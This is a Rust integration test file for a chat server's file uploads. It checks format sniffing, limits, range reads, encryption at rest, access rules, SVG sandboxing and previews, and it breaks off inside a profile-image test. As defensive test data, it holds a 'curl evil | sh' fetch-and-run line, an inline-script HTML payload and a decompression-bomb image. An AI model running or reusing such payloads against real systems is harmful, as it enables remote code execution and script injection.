//! Files, end to end against the real binary: every format told from its bytes (and impostors
//! refused), limits per kind and role and the storage quota at and past their edges, range
//! reads and validators, encryption at rest (no plaintext on disk, a flipped byte never
//! served), access rules and signed links, SVG safety, previews (thumbnails, EXIF orientation,
//! bombs, posters, document cards, durations), attachments over REST and WebSocket, deletion,
//! voice messages, profile images, hashtags and listings, and link previews (with the SSRF
//! guard on by default).

#![allow(clippy::unwrap_used)]

mod common;

use std::time::{Duration, Instant};

use bytes::Bytes;
use common::samples;
use common::*;
use dovie_protocol::Codec;
use serde_json::{json, Value};

/// A raw HTTP exchange: (status, headers, body).
async fn http(
    server: &Server,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: Vec<u8>,
) -> (u16, awc::http::header::HeaderMap, Bytes) {
    let client = awc::Client::builder()
        .timeout(Duration::from_secs(60))
        .finish();
    let mut req = client.request(
        awc::http::Method::from_bytes(method.as_bytes()).unwrap(),
        server.url(path),
    );
    for (k, v) in headers {
        req = req.insert_header((*k, *v));
    }
    let mut res = req.send_body(body).await.expect("request");
    let status = res.status().as_u16();
    let headers = res.headers().clone();
    let body = res.body().limit(64 * 1024 * 1024).await.unwrap_or_default();
    (status, headers, body)
}

/// Sends a whole request over a raw socket (the body from another thread, so a server that
/// answers before reading it all is heard); answers the status.
fn post_raw(server: &Server, path: &str, token: &str, body: Vec<u8>) -> u16 {
    use std::io::{Read, Write};
    let mut s = std::net::TcpStream::connect(&server.addr).unwrap();
    s.set_read_timeout(Some(WAIT)).unwrap();
    write!(
        s,
        "POST {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )
    .unwrap();
    let mut w = s.try_clone().unwrap();
    let writer = std::thread::spawn(move || {
        let _ = w.write_all(&body);
    });
    let mut buf = [0u8; 12];
    s.read_exact(&mut buf).unwrap();
    drop(s);
    let _ = writer.join();
    String::from_utf8_lossy(&buf[9..12]).parse().unwrap()
}

/// Sends only the head of an upload that declares `len` bytes; answers the status.
fn declared_only(server: &Server, user: &User, len: u64) -> u16 {
    use std::io::{Read, Write};
    let mut s = std::net::TcpStream::connect(&server.addr).unwrap();
    s.set_read_timeout(Some(WAIT)).unwrap();
    write!(
        s,
        "POST /api/upload?filename=huge.bin HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {}\r\nContent-Length: {len}\r\n\r\n",
        user.token
    )
    .unwrap();
    let mut buf = [0u8; 12];
    s.read_exact(&mut buf).unwrap();
    String::from_utf8_lossy(&buf[9..12]).parse().unwrap()
}

fn header<'a>(h: &'a awc::http::header::HeaderMap, name: &str) -> &'a str {
    h.get(name).and_then(|v| v.to_str().ok()).unwrap_or("")
}

fn json_of(b: &Bytes) -> Value {
    serde_json::from_slice(b).unwrap_or(Value::Null)
}

/// `POST /api/upload` of raw bytes; answers (status, body).
async fn upload(server: &Server, user: &User, query: &str, bytes: Vec<u8>) -> (u16, Value) {
    let auth = format!("Bearer {}", user.token);
    let (status, _, body) = http(
        server,
        "POST",
        &format!("/api/upload{query}"),
        &[
            ("authorization", &auth),
            ("content-type", "application/octet-stream"),
        ],
        bytes,
    )
    .await;
    (status, json_of(&body))
}

async fn upload_ok(server: &Server, user: &User, query: &str, bytes: Vec<u8>) -> Value {
    let (status, body) = upload(server, user, query, bytes).await;
    assert_eq!(status, 201, "upload {query}: {body}");
    body["file"].clone()
}

async fn get_bytes(server: &Server, path: &str, token: Option<&str>) -> (u16, Bytes) {
    let auth = token.map(|t| format!("Bearer {t}"));
    let headers: Vec<(&str, &str)> = auth.iter().map(|a| ("authorization", a.as_str())).collect();
    let (status, _, body) = http(server, "GET", path, &headers, Vec::new()).await;
    (status, body)
}

/// Polls the file object until its preview job has run.
async fn file_when_ready(api: &Rest, user: &User, id: &str, room: Option<&str>) -> Value {
    let deadline = Instant::now() + Duration::from_secs(60);
    let q = room.map(|r| format!("?room_id={r}")).unwrap_or_default();
    loop {
        let (status, body) = api.get(&format!("/api/files{q}"), &user.token).await;
        assert_eq!(status, 200, "{body}");
        if let Some(f) = body["files"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["id"] == id)
        {
            if f["preview_ready"] == true {
                return f.clone();
            }
        }
        assert!(
            Instant::now() < deadline,
            "the preview of {id} was not ready within 60 s"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

fn decode(bytes: &[u8]) -> image::DynamicImage {
    image::load_from_memory(bytes).expect("a preview decodes as an image")
}

#[actix_rt::test]
async fn every_format_is_told_from_its_bytes_and_impostors_are_refused() {
    let server = Server::start();
    let api = rest(&server);
    let u = api.register("sniff").await;
    let cases: Vec<(&str, Vec<u8>, &str, &str)> = vec![
        ("a.jpg", samples::jpeg(8, 8), "image/jpeg", "image"),
        ("a.png", samples::png(8, 8), "image/png", "image"),
        ("a.gif", samples::gif(8, 8), "image/gif", "image"),
        ("a.webp", samples::webp(8, 8), "image/webp", "image"),
        (
            "a.svg",
            samples::SVG.as_bytes().to_vec(),
            "image/svg+xml",
            "image",
        ),
        ("a.mp4", samples::mp4_like(100), "video/mp4", "video"),
        ("a.mov", samples::mov_like(), "video/quicktime", "video"),
        ("a.webm", samples::webm_like(), "video/webm", "video"),
        ("a.avi", samples::avi_like(), "video/x-msvideo", "video"),
        ("a.mp3", samples::mp3_like(), "audio/mpeg", "audio"),
        ("a.wav", samples::wav(200), "audio/wav", "audio"),
        ("a.ogg", samples::ogg_like(), "audio/ogg", "audio"),
        ("a.m4a", samples::m4a_like(), "audio/mp4", "audio"),
        ("a.pdf", samples::pdf(1, "T"), "application/pdf", "document"),
        ("a.doc", samples::doc(), "application/msword", "document"),
        (
            "a.docx",
            samples::docx("T", 1),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            "document",
        ),
        (
            "a.txt",
            "plain words\n".as_bytes().to_vec(),
            "text/plain; charset=utf-8",
            "document",
        ),
        (
            "a.zip",
            samples::zip_archive(),
            "application/zip",
            "archive",
        ),
        ("a.rar", samples::rar(), "application/vnd.rar", "archive"),
        // Impostors: the name lies, the bytes tell.
        ("photo.pdf", samples::png(4, 4), "image/png", "image"),
        ("song.mp3", samples::jpeg(4, 4), "image/jpeg", "image"),
    ];
    for (name, bytes, ct, kind) in cases {
        let f = upload_ok(&server, &u, &format!("?filename={name}"), bytes.clone()).await;
        assert_eq!(f["content_type"], ct, "{name}: {f}");
        assert_eq!(f["kind"], kind, "{name}");
        assert_eq!(f["filename"], name);
        assert_eq!(f["size"], bytes.len());
        assert_eq!(f["uploader_id"], u.id.as_str());
        assert!(f["url"].as_str().unwrap().starts_with("/api/files/"));
        // The stored name is not the original one.
        assert!(!f["url"].as_str().unwrap().contains(name));
    }
    let refused: Vec<(&str, Vec<u8>)> = vec![
        (
            "setup.exe",
            b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".to_vec(),
        ),
        ("photo.jpg", {
            let mut elf = b"\x7fELF\x02\x01\x01\0".to_vec();
            elf.extend_from_slice(&[0u8; 120]);
            elf
        }),
        ("notes.txt", b"#!/bin/sh\ncurl evil | sh\n".to_vec()),
        (
            "page.txt",
            b"<!DOCTYPE html><html><script>alert(1)</script></html>".to_vec(),
        ),
        (
            "blob.bin",
            (0..600u32).map(|i| (i * 7 % 256) as u8).collect(),
        ),
        ("data.wasm", b"\0asm\x01\0\0\0".to_vec()),
    ];
    for (name, bytes) in refused {
        let (status, body) = upload(&server, &u, &format!("?filename={name}"), bytes).await;
        assert_eq!(status, 415, "{name}: {body}");
        assert_eq!(body["error"]["code"], "unsupported_media_type");
    }
    // Nothing refused was kept.
    let (_, list) = api.get("/api/files?limit=100", &u.token).await;
    assert_eq!(list["files"].as_array().unwrap().len(), 21);
    // Multipart uploads take the `file` part and its name.
    let boundary = "dovieBOUNDARY42";
    let mut form = format!("--{boundary}\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nhi\r\n--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"form.png\"\r\nContent-Type: image/png\r\n\r\n").into_bytes();
    let png = samples::png(5, 5);
    form.extend_from_slice(&png);
    form.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    let auth = format!("Bearer {}", u.token);
    let ct = format!("multipart/form-data; boundary={boundary}");
    let (status, _, body) = http(
        &server,
        "POST",
        "/api/upload",
        &[("authorization", &auth), ("content-type", &ct)],
        form,
    )
    .await;
    let body = json_of(&body);
    assert_eq!(status, 201, "{body}");
    assert_eq!(body["file"]["filename"], "form.png");
    assert_eq!(body["file"]["size"], png.len());
    assert_eq!(body["file"]["content_type"], "image/png");
}

#[actix_rt::test]
async fn limits_per_kind_role_and_quota_hold_at_and_past_their_edges() {
    let server = Server::start_with(
        &[],
        &[
            ("DOVIE_FILES__LIMITS__DOCUMENT", "1000"),
            ("DOVIE_FILES__LIMITS__IMAGE", "50000"),
            ("DOVIE_FILES__ADMIN_LIMITS__DOCUMENT", "3000"),
            ("DOVIE_FILES__USER_QUOTA_BYTES", "2500"),
        ],
    );
    let api = rest(&server);
    let u = api.register("limits").await;
    let text = |n: usize| vec![b'a'; n];
    // At the limit: taken. One past it: refused (413), whether or not a length was declared.
    upload_ok(&server, &u, "?filename=at.txt", text(1000)).await;
    let (status, body) = upload(&server, &u, "?filename=past.txt", text(1001)).await;
    assert_eq!(status, 413, "{body}");
    assert_eq!(body["error"]["code"], "payload_too_large");
    // Streamed without Content-Length: refused while streaming.
    let auth = format!("Bearer {}", u.token);
    let chunks: Vec<Result<Bytes, std::io::Error>> =
        (0..4).map(|_| Ok(Bytes::from(vec![b'b'; 400]))).collect();
    let client = awc::Client::builder().timeout(WAIT).finish();
    let mut res = client
        .post(server.url("/api/upload?filename=stream.txt"))
        .insert_header(("authorization", auth.as_str()))
        .send_stream(futures_util::stream::iter(chunks))
        .await
        .unwrap();
    assert_eq!(res.status().as_u16(), 413);
    let _ = res.body().await;
    // A declared length past every limit is refused before any byte is read.
    assert_eq!(declared_only(&server, &u, 10_000_000_000), 413);
    // The quota: 1000 used, 1000 more fits (2000), then 600 does not (2600 > 2500).
    upload_ok(&server, &u, "?filename=b.txt", text(1000)).await;
    let (status, body) = upload(&server, &u, "?filename=c.txt", text(600)).await;
    assert_eq!(status, 413, "{body}");
    assert!(body["error"]["message"].as_str().unwrap().contains("quota"));
    upload_ok(&server, &u, "?filename=d.txt", text(500)).await;
    let (_, list) = api.get("/api/files", &u.token).await;
    assert_eq!(
        list["files"].as_array().unwrap().len(),
        3,
        "nothing refused was kept"
    );
    // Deleting gives the bytes back.
    let id = list["files"][0]["id"].as_str().unwrap().to_string();
    assert_eq!(
        api.call("DELETE", &format!("/api/files/{id}"), Some(&u.token), None)
            .await
            .0,
        204
    );
    upload_ok(&server, &u, "?filename=e.txt", text(500)).await;
    // Admins have their own limits and no quota.
    let admin = api.register("admin").await;
    let status = std::process::Command::new(env!("CARGO_BIN_EXE_dovie"))
        .args(["admin", "grant", &admin.email, "--data-dir"])
        .arg(server.dir.path())
        .status()
        .unwrap();
    assert!(status.success());
    upload_ok(&server, &admin, "?filename=big.txt", text(3000)).await;
    let (status, _) = upload(&server, &admin, "?filename=bigger.txt", text(3001)).await;
    assert_eq!(status, 413);
}

#[actix_rt::test]
async fn ranges_validators_and_dispositions() {
    let server = Server::start();
    let api = rest(&server);
    let u = api.register("ranges").await;
    // 3 MB over 64 KiB chunks: ranges cross chunk edges.
    let data = samples::mp4_like(3 * 1024 * 1024);
    let f = upload_ok(
        &server,
        &u,
        "?filename=%EC%98%81%EC%83%81.mp4",
        data.clone(),
    )
    .await;
    assert_eq!(f["filename"], "영상.mp4");
    let id = f["id"].as_str().unwrap();
    let path = format!("/api/files/{id}");
    let auth = format!("Bearer {}", u.token);
    let (status, h, body) = http(
        &server,
        "GET",
        &path,
        &[("authorization", &auth)],
        Vec::new(),
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(body.as_ref(), data.as_slice(), "the whole file comes back");
    assert_eq!(header(&h, "accept-ranges"), "bytes");
    assert_eq!(header(&h, "content-type"), "video/mp4");
    assert_eq!(
        header(&h, "content-disposition"),
        "inline; filename=\"__.mp4\"; filename*=UTF-8''%EC%98%81%EC%83%81.mp4"
    );
    let etag = header(&h, "etag").to_string();
    assert!(etag.starts_with('"') && etag.len() > 10);
    assert_eq!(
        f["sha256"].as_str().unwrap().len(),
        64,
        "the file object carries the SHA-256"
    );
    for (range, lo, hi) in [
        ("bytes=0-0", 0usize, 1usize),
        ("bytes=65530-65545", 65530, 65546),
        ("bytes=1000000-1999999", 1_000_000, 2_000_000),
        ("bytes=-100", data.len() - 100, data.len()),
        ("bytes=3000000-", 3_000_000, data.len()),
    ] {
        let (status, h, body) = http(
            &server,
            "GET",
            &path,
            &[("authorization", &auth), ("range", range)],
            Vec::new(),
        )
        .await;
        assert_eq!(status, 206, "{range}");
        assert_eq!(body.as_ref(), &data[lo..hi], "{range}");
        assert_eq!(
            header(&h, "content-range"),
            format!("bytes {lo}-{}/{}", hi - 1, data.len())
        );
    }
    let (status, h, _) = http(
        &server,
        "GET",
        &path,
        &[("authorization", &auth), ("range", "bytes=99999999-")],
        Vec::new(),
    )
    .await;
    assert_eq!(status, 416);
    assert_eq!(
        header(&h, "content-range"),
        format!("bytes */{}", data.len())
    );
    let (status, _, body) = http(
        &server,
        "GET",
        &path,
        &[("authorization", &auth), ("if-none-match", &etag)],
        Vec::new(),
    )
    .await;
    assert_eq!(status, 304);
    assert!(body.is_empty());
}

#[actix_rt::test]
async fn files_are_encrypted_at_rest_and_a_flipped_byte_is_never_served() {
    let server = Server::start();
    let api = rest(&server);
    let u = api.register("crypto").await;
    let marker = "DOVIE-PLAINTEXT-MARKER-7f3a";
    let text: String = (0..8000).map(|i| format!("{marker} line {i}\n")).collect();
    let f = upload_ok(
        &server,
        &u,
        "?filename=secret.txt",
        text.clone().into_bytes(),
    )
    .await;
    let id = f["id"].as_str().unwrap();
    // Nothing under the data dir holds the plaintext (the database neither).
    let mut objects = Vec::new();
    let mut stack = vec![server.dir.path().to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                stack.push(p);
            } else {
                let bytes = std::fs::read(&p).unwrap();
                assert!(
                    !bytes.windows(marker.len()).any(|w| w == marker.as_bytes()),
                    "{} holds the plaintext",
                    p.display()
                );
                if p.to_string_lossy().contains("/files/objects/") {
                    objects.push((p, bytes.len()));
                }
            }
        }
    }
    // The file's object: its plaintext plus 28 bytes a 64 KiB chunk (previews are others).
    let stored_len = text.len() + text.len().div_ceil(65536) * 28;
    let object = objects
        .iter()
        .find(|(_, n)| *n == stored_len)
        .map(|(p, _)| p.clone())
        .unwrap_or_else(|| panic!("the file's object among {objects:?}"));
    // Flip one byte inside the third chunk (chunks are 64 KiB + 28 bytes stored).
    let stride = 65536 + 28;
    let mut stored = std::fs::read(&object).unwrap();
    stored[2 * stride + 100] ^= 0x01;
    std::fs::write(&object, &stored).unwrap();
    let path = format!("/api/files/{id}");
    let auth = format!("Bearer {}", u.token);
    // A range in an untouched chunk still reads.
    let (status, _, body) = http(
        &server,
        "GET",
        &path,
        &[("authorization", &auth), ("range", "bytes=0-99")],
        Vec::new(),
    )
    .await;
    assert_eq!(status, 206);
    assert_eq!(body.as_ref(), &text.as_bytes()[..100]);
    // A range in the tampered chunk fails: nothing of it is served.
    let at = 2 * 65536 + 10;
    let range = format!("bytes={at}-{}", at + 99);
    let (status, _, body) = http(
        &server,
        "GET",
        &path,
        &[("authorization", &auth), ("range", &range)],
        Vec::new(),
    )
    .await;
    assert_eq!(status, 500, "{:?}", String::from_utf8_lossy(&body));
    assert!(!body.windows(marker.len()).any(|w| w == marker.as_bytes()));
    // The whole file: the first chunks may stream, the tampered one never does.
    let client = awc::Client::builder().timeout(WAIT).finish();
    let mut res = client
        .get(server.url(&path))
        .insert_header(("authorization", auth.as_str()))
        .send()
        .await
        .unwrap();
    let got = res.body().limit(64 << 20).await.unwrap_or_default();
    assert!(
        got.len() <= 2 * 65536,
        "served {} bytes: past the tampered chunk",
        got.len()
    );
    let (_, metrics) = get_bytes(&server, "/metrics", None).await;
    let metrics = String::from_utf8_lossy(&metrics);
    let errors = metrics
        .lines()
        .find(|l| l.starts_with("dovie_file_integrity_errors_total"))
        .and_then(|l| l.split_whitespace().nth(1))
        .and_then(|v| v.parse::<f64>().ok())
        .unwrap_or(0.0);
    assert!(errors >= 1.0, "integrity errors are counted");
}

#[actix_rt::test]
async fn access_follows_rooms_and_signed_links() {
    let server = Server::start();
    let api = rest(&server);
    let [a, b, c] = api.register_all(["owner", "member", "stranger"]).await;
    let room = api.group(&a, &[&b]).await;
    let f = upload_ok(&server, &a, "?filename=pic.png", samples::png(16, 16)).await;
    let id = f["id"].as_str().unwrap();
    let path = format!("/api/files/{id}");
    assert_eq!(get_bytes(&server, &path, Some(&a.token)).await.0, 200);
    // Not shared yet: a room mate may not read it; nobody without credentials.
    assert_eq!(get_bytes(&server, &path, Some(&b.token)).await.0, 403);
    assert_eq!(get_bytes(&server, &path, None).await.0, 401);
    // Shared by a message: members read it, strangers still do not.
    let (status, body) = api
        .post(
            &format!("/api/chat-rooms/{room}/messages"),
            &a.token,
            json!({"content": "look #sunset", "attachments": [id]}),
        )
        .await;
    assert_eq!(status, 201, "{body}");
    let m = &body["message"];
    assert_eq!(m["kind"], "image");
    assert_eq!(m["attachments"][0]["id"], id);
    assert_eq!(get_bytes(&server, &path, Some(&b.token)).await.0, 200);
    assert_eq!(get_bytes(&server, &path, Some(&c.token)).await.0, 403);
    // History shows the attachment with a working link of its own.
    let history = api.history(&b, &room, "").await;
    let link = history.last().unwrap()["attachments"][0]["url"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(get_bytes(&server, &link, None).await.0, 200);
    // The signed link works with no Authorization at all; a forged one does not.
    let url = m["attachments"][0]["url"].as_str().unwrap().to_string();
    let (status, bytes) = get_bytes(&server, &url, None).await;
    assert_eq!(status, 200);
    assert_eq!(bytes.as_ref(), samples::png(16, 16).as_slice());
    let forged = format!("{}x", &url);
    assert_eq!(get_bytes(&server, &forged, None).await.0, 403);
    let other_exp = url.replace("exp=", "exp=1");
    assert_eq!(get_bytes(&server, &other_exp, None).await.0, 403);
    // Only one's own files can be attached; at most 10.
    let (status, body) = api
        .post(
            &format!("/api/chat-rooms/{room}/messages"),
            &b.token,
            json!({"content": "mine now", "attachments": [id]}),
        )
        .await;
    assert_eq!(status, 403, "{body}");
    let many: Vec<String> = (0..11).map(|_| id.to_string()).collect();
    let (status, _) = api
        .post(
            &format!("/api/chat-rooms/{room}/messages"),
            &a.token,
            json!({"content": "x", "attachments": many}),
        )
        .await;
    assert_eq!(status, 400);
    // The message's hashtag reached the file.
    let (_, list) = api.get("/api/files?hashtag=sunset", &b.token).await;
    assert_eq!(list["files"].as_array().unwrap().len(), 1, "{list}");
    let (_, list) = api.get("/api/files?hashtag=sunset", &c.token).await;
    assert!(
        list["files"].as_array().unwrap().is_empty(),
        "strangers see none: {list}"
    );
    // Deletion: only the uploader (or an admin); then the bytes are gone and the message keeps a
    // deleted attachment, which members hear about.
    let mut ws = Ws::connect(&server, Codec::Json, Auth::Query(&b.token)).await;
    assert_eq!(api.call("DELETE", &path, Some(&b.token), None).await.0, 403);
    assert_eq!(api.call("DELETE", &path, Some(&a.token), None).await.0, 204);
    assert_eq!(get_bytes(&server, &path, Some(&a.token)).await.0, 404);
    assert_eq!(get_bytes(&server, &url, None).await.0, 404);
    let edited = ws.expect("message_edited").await;
    let att = &edited["d"]["message"]["attachments"][0];
    assert_eq!(att["id"], id);
    assert_eq!(att["deleted"], true, "{edited}");
    assert!(att.get("url").is_none());
    let history = api.history(&b, &room, "").await;
    assert_eq!(history.last().unwrap()["attachments"][0]["deleted"], true);
}

#[actix_rt::test]
async fn svg_is_served_as_a_sandboxed_attachment() {
    let server = Server::start();
    let api = rest(&server);
    let u = api.register("svg").await;
    let f = upload_ok(
        &server,
        &u,
        "?filename=logo.svg",
        samples::SVG.as_bytes().to_vec(),
    )
    .await;
    let (status, h, _) = http(&server, "GET", f["url"].as_str().unwrap(), &[], Vec::new()).await;
    assert_eq!(status, 200);
    assert_eq!(header(&h, "content-type"), "image/svg+xml");
    assert!(header(&h, "content-disposition").starts_with("attachment;"));
    assert_eq!(
        header(&h, "content-security-policy"),
        "sandbox; default-src 'none'"
    );
    assert_eq!(header(&h, "x-content-type-options"), "nosniff");
    let png = upload_ok(&server, &u, "?filename=p.png", samples::png(3, 3)).await;
    let (_, h, _) = http(
        &server,
        "GET",
        png["url"].as_str().unwrap(),
        &[],
        Vec::new(),
    )
    .await;
    assert!(header(&h, "content-disposition").starts_with("inline;"));
    assert_eq!(
        header(&h, "content-security-policy"),
        "sandbox; default-src 'none'"
    );
}

#[actix_rt::test]
async fn previews_of_images_videos_documents_and_audio() {
    let server = Server::start_with(&[], &[("DOVIE_FILES__MAX_IMAGE_PIXELS", "40000000")]);
    let api = rest(&server);
    let u = api.register("previews").await;
    // A wide image: three sizes, each within its box.
    let f = upload_ok(&server, &u, "?filename=wide.png", samples::png(2000, 1000)).await;
    assert_eq!(
        (f["width"].as_u64(), f["height"].as_u64()),
        (Some(2000), Some(1000))
    );
    let f = file_when_ready(&api, &u, f["id"].as_str().unwrap(), None).await;
    assert_eq!(f["has_preview"], true);
    let url = f["preview_url"].as_str().unwrap().to_string();
    for (size, w, h) in [
        ("small", 160, 80),
        ("medium", 480, 240),
        ("large", 1080, 540),
    ] {
        let (status, bytes) = get_bytes(
            &server,
            &url.replace("size=medium", &format!("size={size}")),
            None,
        )
        .await;
        assert_eq!(status, 200, "{size}");
        let img = decode(&bytes);
        assert_eq!((img.width(), img.height()), (w, h), "{size}");
    }
    // EXIF orientation is applied: 40×20 stored, rotated, is 20×40.
    let r = upload_ok(
        &server,
        &u,
        "?filename=rot.jpg",
        samples::jpeg_rotated(40, 20),
    )
    .await;
    let r = file_when_ready(&api, &u, r["id"].as_str().unwrap(), None).await;
    assert_eq!(
        (r["width"].as_u64(), r["height"].as_u64()),
        (Some(20), Some(40)),
        "{r}"
    );
    let img = decode(
        &get_bytes(&server, r["preview_url"].as_str().unwrap(), None)
            .await
            .1,
    );
    assert_eq!((img.width(), img.height()), (20, 40));
    // One pixel works; a decompression bomb gets no preview, and no error.
    let one = upload_ok(&server, &u, "?filename=1.png", samples::png(1, 1)).await;
    let one = file_when_ready(&api, &u, one["id"].as_str().unwrap(), None).await;
    let img = decode(
        &get_bytes(&server, one["preview_url"].as_str().unwrap(), None)
            .await
            .1,
    );
    assert_eq!((img.width(), img.height()), (1, 1));
    let bomb = upload_ok(
        &server,
        &u,
        "?filename=bomb.png",
        samples::png_bomb(100_000, 100_000),
    )
    .await;
    let bomb = file_when_ready(&api, &u, bomb["id"].as_str().unwrap(), None).await;
    assert_eq!(bomb["has_preview"], false, "{bomb}");
    let bid = bomb["id"].as_str().unwrap();
    assert_eq!(
        get_bytes(&server, &format!("/api/file-preview/{bid}"), Some(&u.token))
            .await
            .0,
        404
    );
    assert_eq!(
        get_bytes(&server, &format!("/api/files/{bid}"), Some(&u.token))
            .await
            .0,
        200
    );
    // A PDF: pages and title, and a preview image (its first page, or a card).
    let pdf = upload_ok(
        &server,
        &u,
        "?filename=report.pdf",
        samples::pdf(3, "Quarterly Report"),
    )
    .await;
    let pdf = file_when_ready(&api, &u, pdf["id"].as_str().unwrap(), None).await;
    assert_eq!(pdf["pages"], 3, "{pdf}");
    assert_eq!(pdf["title"], "Quarterly Report");
    decode(
        &get_bytes(&server, pdf["preview_url"].as_str().unwrap(), None)
            .await
            .1,
    );
    // A DOCX: its title and page count, and a card.
    let docx = upload_ok(
        &server,
        &u,
        "?filename=plan.docx",
        samples::docx("R&amp;D plan", 7),
    )
    .await;
    let docx = file_when_ready(&api, &u, docx["id"].as_str().unwrap(), None).await;
    assert_eq!(
        (docx["pages"].as_u64(), docx["title"].as_str()),
        (Some(7), Some("R&D plan"))
    );
    let card = decode(
        &get_bytes(&server, docx["preview_url"].as_str().unwrap(), None)
            .await
            .1,
    );
    assert_eq!((card.width(), card.height()), (360, 480), "the medium card");
    // A Word 97 document: its summary information.
    let doc = upload_ok(
        &server,
        &u,
        "?filename=minutes.doc",
        samples::doc_titled("Board minutes", 4),
    )
    .await;
    assert_eq!(doc["content_type"], "application/msword");
    let doc = file_when_ready(&api, &u, doc["id"].as_str().unwrap(), None).await;
    assert_eq!(
        (doc["pages"].as_u64(), doc["title"].as_str()),
        (Some(4), Some("Board minutes")),
        "{doc}"
    );
    // Audio: its duration.
    let wav = upload_ok(&server, &u, "?filename=a.wav", samples::wav(1500)).await;
    let wav = file_when_ready(&api, &u, wav["id"].as_str().unwrap(), None).await;
    assert_eq!(wav["duration_ms"], 1500);
    // A video: ffmpeg's poster frame when it is installed, else a placeholder.
    let video = if samples::have_ffmpeg() {
        samples::ffmpeg_make(
            &[
                "-f",
                "lavfi",
                "-i",
                "testsrc=duration=2:size=320x240:rate=10",
                "-pix_fmt",
                "yuv420p",
            ],
            "mp4",
        )
    } else {
        samples::mp4_like(5000)
    };
    let v = upload_ok(&server, &u, "?filename=clip.mp4", video).await;
    let v = file_when_ready(&api, &u, v["id"].as_str().unwrap(), None).await;
    let poster = decode(
        &get_bytes(&server, v["preview_url"].as_str().unwrap(), None)
            .await
            .1,
    );
    if samples::have_ffmpeg() {
        assert_eq!(
            (poster.width(), poster.height()),
            (320, 240),
            "ffmpeg's frame"
        );
        assert_eq!(
            (v["width"].as_u64(), v["height"].as_u64()),
            (Some(320), Some(240))
        );
    } else {
        assert_eq!(poster.width(), 480, "the placeholder");
    }
    // Previews carry the file's access rules: a stranger with a token cannot.
    let s = api.register("stranger").await;
    let pid = f["id"].as_str().unwrap();
    assert_eq!(
        get_bytes(&server, &format!("/api/file-preview/{pid}"), Some(&s.token))
            .await
            .0,
        403
    );
}

#[actix_rt::test]
async fn a_placeholder_poster_without_ffmpeg() {
    let server = Server::start_with(&[], &[("DOVIE_FILES__FFMPEG", "")]);
    let api = rest(&server);
    let u = api.register("noffmpeg").await;
    let v = upload_ok(&server, &u, "?filename=clip.mp4", samples::mp4_like(5000)).await;
    let v = file_when_ready(&api, &u, v["id"].as_str().unwrap(), None).await;
    let poster = decode(
        &get_bytes(&server, v["preview_url"].as_str().unwrap(), None)
            .await
            .1,
    );
    assert_eq!((poster.width(), poster.height()), (480, 270));
}

#[actix_rt::test]
async fn attachments_over_the_websocket_and_voice_messages() {
    let server = Server::start();
    let api = rest(&server);
    let [a, b] = api.register_all(["voice-a", "voice-b"]).await;
    let room = api.group(&a, &[&b]).await;
    let doc = upload_ok(&server, &a, "?filename=notes.pdf", samples::pdf(1, "Notes")).await;
    let mut wa = Ws::connect(&server, Codec::MsgPack, Auth::Query(&a.token)).await;
    let mut wb = Ws::connect(&server, Codec::Json, Auth::Query(&b.token)).await;
    let reply = wa
        .request(
            "send_message",
            json!({"room_id": room, "content": "", "nonce": "n1", "attachments": [doc["id"]]}),
        )
        .await;
    let m = &reply["d"]["message"];
    assert_eq!(m["kind"], "file", "{reply}");
    assert_eq!(m["content"], "");
    let seen = wb.expect("new_message").await;
    let att = &seen["d"]["message"]["attachments"][0];
    assert_eq!(att["filename"], "notes.pdf");
    let (status, bytes) = get_bytes(&server, att["url"].as_str().unwrap(), None).await;
    assert_eq!(status, 200);
    assert_eq!(bytes.as_ref(), samples::pdf(1, "Notes").as_slice());
    // Blank content with no attachment is still refused.
    let err = wa
        .request("send_message", json!({"room_id": room, "content": " "}))
        .await;
    assert_eq!(err["t"], "error", "{err}");
    // A voice message: audio only, with its duration.
    let auth = format!("Bearer {}", a.token);
    let (status, _, body) = http(
        &server,
        "POST",
        &format!("/api/voice-messages?room_id={room}&filename=memo.wav"),
        &[("authorization", &auth)],
        samples::wav(2500),
    )
    .await;
    let body = json_of(&body);
    assert_eq!(status, 201, "{body}");
    let m = &body["message"];
    assert_eq!(m["kind"], "voice");
    assert_eq!(m["attachments"][0]["duration_ms"], 2500);
    assert_eq!(m["attachments"][0]["kind"], "audio");
    let live = wb.expect("new_message").await;
    assert_eq!(live["d"]["message"]["kind"], "voice");
    let (status, _, _) = http(
        &server,
        "POST",
        &format!("/api/voice-messages?room_id={room}"),
        &[("authorization", &auth)],
        samples::png(4, 4),
    )
    .await;
    assert_eq!(status, 415);
    let c = api.register("outsider").await;
    let auth_c = format!("Bearer {}", c.token);
    let (status, _, _) = http(
        &server,
        "POST",
        &format!("/api/voice-messages?room_id={room}"),
        &[("authorization", &auth_c)],
        samples::wav(100),
    )
    .await;
    assert_eq!(status, 403);
}

#[actix_rt::test]
async fn profile_images_are_public_square_and_cacheable() {
    let server = Server::start();
    let api = rest(&server);
    let [u, v] = api.register_all(["avatar", "viewer"]).await;
    let auth = format!("Bearer {}", u.token);
    let (status, _, body) = http(
        &server,
        "POST",
        "/api/profile-images",
        &[("authorization", &auth)],
        samples::jpeg(300, 200),
    )
    .await;
    let body = json_of(&body);
    assert_eq!(status, 201, "{body}");
    let avatar = body["user"]["avatar_url"].as_str().unwrap().to_string();
    assert!(avatar.starts_with("/api/profile-images/"), "{avatar}");
    let (_, profile) = api.get(&format!("/api/users/{}", u.id), &v.token).await;
    assert_eq!(profile["user"]["avatar_url"], avatar.as_str());
    // Public: no token. Once the thumbnails exist, they are square.
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let (status, h, bytes) = http(
            &server,
            "GET",
            &format!("{avatar}?size=small"),
            &[],
            Vec::new(),
        )
        .await;
        assert_eq!(status, 200);
        assert!(header(&h, "cache-control").starts_with("public"), "{h:?}");
